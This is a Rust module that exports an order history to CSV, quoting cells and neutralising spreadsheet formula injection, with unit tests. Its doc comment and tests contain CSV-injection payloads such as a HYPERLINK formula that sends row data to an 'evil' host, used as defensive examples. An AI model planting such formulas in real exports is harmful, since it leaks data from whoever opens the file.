//! The history's order list as CSV: the one writer behind the desktop app's "Export CSV" and
//! `quipt-shipstation history --csv`, so a spreadsheet built on one works with the other.
//!
//! Two promises beyond RFC 4180 quoting:
//! - **Every matching row.** The screen shows the newest 500 orders; an export lifts that limit
//!   ([`every_match`]), since a spreadsheet that silently stops at 500 looks complete.
//! - **No live formulas.** Order numbers, channel names and reasons come from Quipt, where anyone
//!   who can place an order writes them. A cell starting with `=`, `+`, `-`, `@`, a tab or a
//!   carriage return is a formula (or becomes one) in Excel, LibreOffice and Google Sheets —
//!   `=HYPERLINK("http://evil/?"&A1,"click")` would send the row elsewhere. Such a cell gets a
//!   leading `'`, which spreadsheets show as text and do not display (OWASP, "CSV Injection").

use std::io::Write;
use std::path::Path;

use crate::error::{Error, Result};
use crate::private_files;
use crate::store::orders::{OrderFilter, OrderRow};

/// The header line.
pub const CSV_HEADER: &str =
    "order_number,quipt_id,state,reason,shipstation_order_id,channel,warehouse,updated_at";

/// What makes a cell a formula when it comes first.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The same filter with its row limit lifted: an export holds every matching order.
pub fn every_match(filter: &OrderFilter) -> OrderFilter {
    OrderFilter {
        limit: Some(u32::MAX),
        ..filter.clone()
    }
}

/// Writes the header and one line per order (`\n` line ends).
///
/// # Errors
/// When `out` fails.
pub fn write_orders(out: &mut impl Write, orders: &[OrderRow]) -> std::io::Result<()> {
    writeln!(out, "{CSV_HEADER}")?;
    for o in orders {
        let ss_order_id = o.ss_order_id.map(|i| i.to_string()).unwrap_or_default();
        let fields = [
            o.order_number.as_str(),
            o.quipt_id.as_str(),
            o.state.as_str(),
            o.reason.as_deref().unwrap_or_default(),
            ss_order_id.as_str(),
            o.channel.as_deref().unwrap_or_default(),
            o.warehouse_code.as_deref().unwrap_or_default(),
            o.updated_at.as_str(),
        ];
        let line: Vec<String> = fields.into_iter().map(field).collect();
        writeln!(out, "{}", line.join(","))?;
    }
    Ok(())
}

/// Saves the orders as a CSV file: complete or not at all, readable by its owner only.
///
/// # Errors
/// [`Error::Io`] when the file cannot be written.
pub fn save_orders(path: &Path, orders: &[OrderRow]) -> Result<()> {
    private_files::write_atomic(path, |file| {
        let mut out = std::io::BufWriter::new(file);
        write_orders(&mut out, orders)?;
        out.flush()
    })
    .map_err(|e| Error::io("write", path, e))
}

/// One cell: neutralised when it would start a formula, quoted when it holds a comma, a quote or
/// a line break.
fn field(value: &str) -> String {
    let value = if value.starts_with(FORMULA_STARTS) {
        format!("'{value}")
    } else {
        value.to_string()
    };
    if value.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value
    }
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;
    use crate::store::orders::OrderState;

    #[rstest]
    #[case::a_comma_is_quoted("held, no store", "\"held, no store\"")]
    #[case::quotes_are_doubled("say \"hi\"", "\"say \"\"hi\"\"\"")]
    #[case::plain_text_is_left_alone("Q-1001", "Q-1001")]
    #[case::a_formula_is_text("=1+1", "'=1+1")]
    #[case::a_quoted_formula_stays_text(
        "=HYPERLINK(\"http://x/\",\"a\")",
        "\"'=HYPERLINK(\"\"http://x/\"\",\"\"a\"\")\""
    )]
    #[case::plus("+1-555", "'+1-555")]
    #[case::minus("-2+3", "'-2+3")]
    #[case::at("@SUM(A1)", "'@SUM(A1)")]
    #[case::tab("\t=1", "'\t=1")]
    #[case::carriage_return("\r=1", "\"'\r=1\"")]
    #[case::a_sign_inside_is_harmless("Q-=1", "Q-=1")]
    #[case::empty("", "")]
    fn a_cell_is_quoted_and_never_a_formula(#[case] value: &str, #[case] written: &str) {
        assert_eq!(field(value), written);
    }

    fn row(number: &str) -> OrderRow {
        OrderRow {
            order_number: number.into(),
            channel: Some("Amazon".into()),
            reason: Some("no store, held".into()),
            updated_at: "2026-11-29T10:00:00.000Z".into(),
            ..OrderRow::sample(OrderState::Held)
        }
    }

    #[test]
    fn an_order_number_written_as_a_formula_comes_out_as_text() {
        let mut out = Vec::new();
        write_orders(&mut out, &[row("=HYPERLINK(\"http://evil/\",\"x\")")]).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert_eq!(
            text,
            format!(
                "{CSV_HEADER}\n\"'=HYPERLINK(\"\"http://evil/\"\",\"\"x\"\")\",q-1,held,\"no store, held\",,Amazon,,2026-11-29T10:00:00.000Z\n"
            )
        );
    }

    #[test]
    fn an_export_lifts_the_screens_limit_and_keeps_the_rest_of_the_filter() {
        let filter = OrderFilter {
            state: Some(OrderState::Held),
            limit: Some(500),
            ..Default::default()
        };
        let all = every_match(&filter);
        assert_eq!(all.limit, Some(u32::MAX));
        assert_eq!(all.state, Some(OrderState::Held));
    }
}
